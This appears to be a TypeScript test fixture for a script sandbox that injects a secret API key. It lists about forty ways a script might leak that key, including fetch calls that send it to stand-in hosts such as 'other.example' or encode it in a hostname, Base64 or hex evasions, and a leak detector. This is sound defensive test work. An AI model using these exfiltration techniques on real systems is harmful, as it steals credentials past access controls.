/** The value that must not leak. Some of its characters are escaped in JSON, in URLs or in HTML. */
export const secret = 'pA5s/w+rd="of&the<vault>-4711'
export const host = 'api.example.com'

/** The start of a script. Its `value` holds the placeholder, and the response of a host that received the secret. */
export const echoedValue = `
  const key = await settings.get('API_KEY')
  const echo = await fetch('https://${host}/echo?key=' + encodeURIComponent(key), {
    method: 'POST', headers: { 'x-key': key }, body: key
  })
  const value = [key, echo.headers.get('x-echo'), echo.url, await echo.text()].join(' ')
`

/** The start of a script that has the secret in its own code. */
export const knownValue = `
  const value = String.fromCharCode(${[...secret].map((sign) => sign.charCodeAt(0)).join(',')})
`

const helpers = `
  const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'
  const codes = (text) => Array.from(text, (sign) => sign.charCodeAt(0) & 255)
  const base64 = (text) => {
    const bits = codes(text).map((code) => code.toString(2).padStart(8, '0')).join('')
    const signs = (bits.match(/.{1,6}/g) ?? []).map((six) => letters[parseInt(six.padEnd(6, '0'), 2)]).join('')
    return signs.padEnd(Math.ceil(signs.length / 4) * 4, '=')
  }
  const hex = (text) => codes(text).map((code) => code.toString(16).padStart(2, '0')).join('')
  const percent = (text) => codes(text).map((code) => '%' + code.toString(16).padStart(2, '0')).join('')
  const escaped = (text) => codes(text).map((code) => '\\\\u00' + code.toString(16).padStart(2, '0')).join('')
  const reversed = (text) => [...text].reverse().join('')
  const wide = (text) => [...text].join('\\0') + '\\0'
  const pieces = (text, length) => text.match(new RegExp('[^]{1,' + length + '}', 'g')) ?? []
`

type Way = readonly [name: string, code: string, timeout?: number]

/**
 * The ways in which a script tries to leak what the gateway puts into its requests, by name. `timeout`: in seconds. It has
 * no other way to it, because it never receives the secret.
 */
export const sendingWays: readonly Way[] = [
  ['prints it', 'print(value)'],
  ['returns it', 'set_result(value)'],
  ['throws it in an error', 'throw new Error(value)'],
  ['asks the model about it', 'set_result(await llm.complete("What of " + value + "?"))'],
  ['sends it in a path', `await fetch('https://${host}/' + encodeURIComponent(value))`],
  ['sends it in a query', `set_result((await fetch('https://${host}/?q=' + base64(value))).url)`],
  ['sends it in a header', `await fetch('https://${host}/', { headers: { 'x-note': value.slice(0, 200) } })`],
  ['sends it as the name of a header', `await fetch('https://${host}/', { headers: { [value]: 'x' } })`],
  ['sends it in a body', `set_result(await (await fetch('https://${host}/', { method: 'POST', body: value })).text())`],
  ['sends it as a method', `await fetch('https://${host}/', { method: value })`],
  ['sends it to an undeclared host', `await fetch('https://other.example/?q=' + encodeURIComponent(value))`],
  ['sends a request to a host named after it', 'await fetch("https://" + hex(value).slice(0, 58) + ".example/")'],
  ['requests it as a URL', 'await fetch(value)'],
]

/** The ways in which a script tries to leak `value`. */
export const ways: readonly Way[] = [
  ...sendingWays,
  ['prints it letter by letter', 'for (const letter of value) print(letter)'],
  ['prints it in pieces', 'for (const piece of pieces(value, 5)) print(piece)'],
  ['prints it among other text', 'print("x".repeat(3000) + value + "y".repeat(3000))'],
  ['prints it to stderr', 'console.error(value)'],
  [
    'prints its letters to stdout and stderr in turns',
    'Array.from(value, (letter, at) => (at % 2 ? console.log : console.error)(letter))',
  ],
  ['prints an object that holds it', 'console.log({ a: [{ b: value }] })'],
  ['prints an object with it as a key', 'console.log({ [value]: 1 })'],
  ['prints an error that holds it', 'console.error(new Error(value))'],
  [
    'prints it in two pieces around a pause',
    'print(value.slice(0, 14)); await llm.complete("?"); print(value.slice(14))',
  ],
  [
    'prints and returns it in other forms',
    `const forms = {
      base64: base64('a' + value), hex: hex(value), percent: percent(value), uri: encodeURIComponent(value),
      escaped: escaped(value), json: JSON.stringify(JSON.stringify({ value })), reversed: reversed(value),
      wide: wide(value), wideInBase64: base64(wide(value))
    }
    for (const [name, form] of Object.entries(forms)) { print(name); print(form) }
    set_result(forms)`,
  ],
  ['prints it in Base64, in pieces', 'for (const piece of pieces(base64(value), 7)) print(piece)'],
  ['returns it in upper-case hex, as a key', 'set_result({ [hex(value).toUpperCase()]: true })'],
  ['returns it as a key', 'set_result({ [value]: value })'],
  [
    'returns it deep in an object',
    'set_result(Array.from({ length: 20 }).reduce((inner) => ({ inner: [inner] }), value))',
  ],
  ['throws it', 'throw value'],
  ['throws an object that holds it', 'const a = { b: [value], [value]: 1 }; a.a = a; throw a'],
  ['throws an error with it as its name', 'throw Object.assign(new Error("x"), { name: value })'],
  ['throws an error with it as its cause', 'throw new Error("x", { cause: new Error(value) })'],
  ['throws an error with it as its stack', 'throw Object.assign(new Error("x"), { stack: value })'],
  ['throws in a function named after it', 'const f = { [value]: () => { throw new Error("x") } }; f[value]()'],
  ['rejects an unawaited promise with it', 'Promise.reject(new Error(value)); await llm.complete("?")'],
  ['reads a setting named after it', 'await settings.get(value)'],
  ['asks the model about it in Base64', 'set_result(await llm.complete(base64(value)))'],
  ['asks a model named after it', 'await llm.complete("?", value.slice(0, 60))'],
  ['prints it and runs out of fuel', 'print(value); for (;;);'],
  ['prints it in pieces and runs out of time', 'for (const piece of pieces(value, 9)) print(piece); for (;;);', 1],
  ['prints it and runs out of memory', 'print(value); const all = []; for (;;) all.push("x".repeat(1e6) + all.length)'],
  ['prints it until the log is full', 'for (let at = 0; at < 4000; at += 1) print(value)'],
  ['returns it with more data than allowed', 'set_result([value, "x".repeat(3e6)])'],
]

export const scriptOf = (start: string, code: string): string => `${start}${helpers}${code}`

const base64Forms = (text: string) =>
  [0, 1, 2].map((before) => {
    const whole = Buffer.from('a'.repeat(before) + text, 'latin1').toString('base64')
    // Leaves out the characters that also depend on neighboring bytes.
    return whole.slice(before === 0 ? 0 : 4, Math.floor(((before + text.length) * 8) / 6))
  })

/** Each form of the secret that a text must not contain, even across line breaks. */
const forms: readonly string[] = [
  // Every part of 12 characters counts as a leak.
  ...Array.from({ length: secret.length - 11 }, (_, at) => secret.slice(at, at + 12)),
  [...secret].reverse().join(''),
  encodeURIComponent(secret),
  [...secret].map((sign) => `%${sign.charCodeAt(0).toString(16)}`).join(''),
  [...secret].map((sign) => `\\u00${sign.charCodeAt(0).toString(16)}`).join(''),
  JSON.stringify(secret).slice(1, -1),
  Buffer.from(secret).toString('hex'),
  ...[secret, [...secret].reverse().join(''), [...secret].map((sign) => `${sign}\0`).join('')]
    .flatMap(base64Forms)
    .flatMap((form) => [form, form.replaceAll('+', '-').replaceAll('/', '_')]),
].map((form) => form.replaceAll('\0', '').toLowerCase())

/** The form in which a text contains the secret, even across line breaks. Undefined if it does not. */
export function heldForm(text: string): string | undefined {
  const close = text.replaceAll(/[\n\0]/g, '').toLowerCase()
  return forms.find((form) => close.includes(form))
}

/** All texts in a value, including the names of fields. */
export function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value]
  if (Array.isArray(value)) return value.flatMap(textsIn)
  if (typeof value === 'object' && value !== null) return Object.entries(value).flatMap(textsIn)
  return []
}

/** The texts in a value that contain the secret in any form. */
export const leaksIn = (value: unknown): string[] =>
  textsIn(value).flatMap((text) => (heldForm(text) === undefined ? [] : [text.slice(0, 300)]))
